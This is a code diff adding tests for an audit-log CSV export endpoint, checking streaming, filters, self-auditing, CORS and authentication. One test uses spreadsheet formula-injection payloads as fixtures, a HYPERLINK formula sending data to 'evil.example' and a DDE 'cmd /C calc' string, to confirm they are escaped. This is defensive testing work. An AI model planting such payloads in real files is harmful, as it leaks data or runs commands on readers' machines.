@@ -1,8 +1,11 @@
+import { request, type IncomingMessage } from 'node:http';
 import { sql } from 'drizzle-orm';
+import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { auditAdminsResponseSchema, envelope } from '@manager/contract';
+import { EXPORT_BATCH } from '../src/audit/csv';
 import { auditLog } from '../src/db/schema/index';
-import { allPages, EDGE, expected, GONE_ADMIN, insertFixture, oracle, page, PLAYERS, type DemoAdminIds, type Filter } from './audit-support';
+import { allPages, EDGE, expected, GONE_ADMIN, insertFixture, oracle, page, PLAYERS, queryString, type DemoAdminIds, type Filter } from './audit-support';
 import { buildTestApp, signIn, type TestApp } from './helper';
 import { rowsOf } from './tasks-helpers';
 
@@ -186,3 +189,152 @@ describe('GET /manager/audit/admins', () => {
   });
 });
 
+
+describe('GET /manager/audit/export', () => {
+  type Row = Record<string, string>;
+  const exportCsv = async (params: Record<string, string | number | undefined> = {}) => {
+    const res = await t.call({ method: 'GET', url: `/manager/audit/export?${queryString(params)}`, token, headers: { 'user-agent': 'audit-test/1.0' } });
+    expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
+    expect(res.body.startsWith('\ufeff'), 'a byte order mark, for spreadsheets').toBe(true);
+    const rows = parse(res.body, { bom: true, columns: true }) as Row[];
+    return { res, rows, header: res.body.slice(1).split('\r\n')[0] };
+  };
+  const exportRows = () => rowsOf(t, sql`select * from audit_log where action = 'audit.export' order by id desc`);
+
+  it('streams every matching row, newest first, across read batches of equal times, as a named CSV file', async () => {
+    await t.db.execute(sql`
+      insert into audit_log (admin_id, admin_username, action, entity, entity_id, after)
+      select ${demo.admin.id}, ${demo.admin.username}, 'bulk.row', 'task', (g % 9)::text, jsonb_build_object('n', g)
+      from generate_series(1, ${EXPORT_BATCH * 2 + 345}) g`);
+    const { res, rows, header } = await exportCsv({ action: 'bulk.row' });
+    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
+    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="audit-log-\d{4}-\d{2}-\d{2}T\d{2}-\d{2}-\d{2}Z\.csv"$/);
+    expect(header).toBe('id,at,adminId,adminUsername,action,entityType,entityId,userTelegramId,before,after,ip,userAgent,reason');
+    expect(rows.map((r) => Number(r.id))).toEqual(expected(await oracle(t), { action: 'bulk.row' }));
+    expect(rows).toHaveLength(EXPORT_BATCH * 2 + 345);
+    expect(rows[0]).toMatchObject({ adminId: String(demo.admin.id), adminUsername: demo.admin.username, entityType: 'task', before: '', after: expect.stringMatching(/^\{"n":\d+\}$/) });
+  }, 60_000);
+
+  it('exports what the list shows for the same filters, and starts below its own record', async () => {
+    for (const filter of [{}, { adminId: String(GONE_ADMIN.id), to: '2024-06-01' }, { entityType: 'withdrawal', entityId: '5' }] as Filter[]) {
+      const { rows } = await exportCsv(filter);
+      const own = Number((await exportRows())[0]!.id);
+      const want = expected(await oracle(t), filter).filter((id) => id !== own);
+      expect(rows.map((r) => Number(r.id)), JSON.stringify(filter)).toEqual(want);
+      expect(want.length).toBeGreaterThan(0);
+    }
+  }, 60_000);
+
+  it('keeps commas, quotes and line breaks, and turns cells that start a formula into text', async () => {
+    await t.db.insert(auditLog).values({
+      adminId: 5555,
+      adminUsername: '@mallory',
+      action: '=HYPERLINK("http://evil.example/?"&A1,"click")',
+      entity: 'task',
+      entityId: '+1+2',
+      before: { title: '=1+1' },
+      ip: '-2+3',
+      userAgent: '\t=cmd|\' /C calc\'!A0',
+      reason: 'line one, "quoted"\r\nline two',
+    });
+    await t.db.insert(auditLog).values({ adminId: 5555, adminUsername: 'plain', action: 'ok.action', entity: 'task', reason: '\r=2+2', entityId: 'a=b' });
+    const { res, rows } = await exportCsv({ adminId: 5555 });
+    const [plain, evil] = rows;
+    expect(evil).toMatchObject({
+      adminUsername: "'@mallory",
+      action: '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
+      entityId: "'+1+2",
+      // JSON cells start with a brace, so a formula inside one stays as it was.
+      before: '{"title":"=1+1"}',
+      ip: "'-2+3",
+      userAgent: "'\t=cmd|' /C calc'!A0",
+      reason: 'line one, "quoted"\r\nline two',
+    });
+    expect(plain).toMatchObject({ reason: "'\r=2+2", entityId: 'a=b', action: 'ok.action' });
+    // In the file itself: quotes doubled inside a quoted cell.
+    expect(res.body).toContain('"line one, ""quoted""\r\nline two"');
+  });
+
+  it('records itself first: action audit.export on entity audit, the filters in `after`, the player when the filter names one', async () => {
+    const cases: Array<[Filter, number | null]> = [
+      [{ userTelegramId: String(PLAYERS[2]), from: '2024-01-01' }, PLAYERS[2]!],
+      [{ entityType: 'user', entityId: String(PLAYERS[1]) }, PLAYERS[1]!],
+      [{ entityType: 'task', entityId: '5' }, null],
+      [{}, null],
+    ];
+    for (const [filter, player] of cases) {
+      const before = (await exportRows()).length;
+      await exportCsv(filter);
+      const rows = await exportRows();
+      expect(rows).toHaveLength(before + 1);
+      const row = rows[0]!;
+      expect(row).toMatchObject({
+        admin_id: demo.admin.id,
+        admin_username: demo.admin.username,
+        entity: 'audit',
+        entity_id: null,
+        user_telegram_id: player === null ? null : expect.anything(),
+        user_agent: 'audit-test/1.0',
+        ip: expect.any(String),
+      });
+      if (player !== null) expect(Number(row.user_telegram_id)).toBe(player);
+      const after = typeof row.after === 'string' ? JSON.parse(row.after) : row.after;
+      expect(after).toEqual(Object.fromEntries(Object.entries(filter).map(([k, v]) => [k, k === 'from' ? new Date(v).toISOString() : k === 'userTelegramId' ? Number(v) : v])));
+    }
+    // The player's History (the log filtered by them) shows the export, newest first.
+    const [first] = (await page(t, token, { userTelegramId: PLAYERS[2] })).entries;
+    expect(first).toMatchObject({ action: 'audit.export', entityType: 'audit', userTelegramId: PLAYERS[2], admin: demo.admin });
+  }, 60_000);
+
+  it('has committed its record before the first byte, and keeps it when the client leaves early', async () => {
+    // About 8 MB of CSV: more than the socket buffers hold, so the file cannot be done when its first bytes arrive.
+    await t.db.execute(sql`
+      insert into audit_log (admin_id, admin_username, action, entity, after)
+      select ${demo.admin.id}, ${demo.admin.username}, 'bulk.big', 'settings', jsonb_build_object('text', repeat('x', 2000))
+      from generate_series(1, 4000)`);
+    const address = await t.app.listen({ port: 0, host: '127.0.0.1' });
+    try {
+      const before = (await exportRows()).length;
+      const url = new URL(`${address}/manager/audit/export?action=bulk.big`);
+      const req = request(url, { headers: { [t.config.apiKeyHeader]: t.config.apiKey, authorization: `Bearer ${token}` } });
+      const res = await new Promise<IncomingMessage>((resolve) => req.on('response', resolve).end());
+      expect(res.statusCode).toBe(200);
+      await new Promise((resolve) => res.once('data', resolve));
+      res.pause();
+      // Read from another connection on PostgreSQL: the row is committed, not merely written.
+      expect(await exportRows()).toHaveLength(before + 1);
+      req.destroy();
+      expect(await exportRows()).toHaveLength(before + 1);
+    } finally {
+      await new Promise((resolve) => t.app.server.close(resolve));
+    }
+  }, 60_000);
+
+  it('refuses a bad filter with a 400 naming it, and records nothing', async () => {
+    const before = (await exportRows()).length;
+    await refused('/manager/audit/export?adminId=abc', 'adminId');
+    await refused('/manager/audit/export?from=2024-05-02&to=2024-05-01', 'from');
+    await refused('/manager/audit/export?userTelegramId=x', 'userTelegramId');
+    expect(await exportRows()).toHaveLength(before);
+  });
+
+  it('answers HEAD without reading the log or recording an export', async () => {
+    const before = (await exportRows()).length;
+    const res = await t.call({ method: 'HEAD', url: '/manager/audit/export', token });
+    expect(res.statusCode).toBe(200);
+    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
+    expect(await exportRows()).toHaveLength(before);
+  });
+
+  it('lets the console, on another origin, read the file name', async () => {
+    const origin = t.config.corsOrigins[0]!;
+    const res = await t.call({ method: 'GET', url: '/manager/audit/export?entityType=mailing', token, headers: { origin } });
+    expect(res.statusCode).toBe(200);
+    expect(res.headers['access-control-allow-origin']).toBe(origin);
+    expect(res.headers['access-control-expose-headers']).toBe('Content-Disposition');
+  });
+
+  it('needs a signed-in admin', async () => {
+    expect((await t.call({ method: 'GET', url: '/manager/audit/export' })).statusCode).toBe(401);
+  });
+});
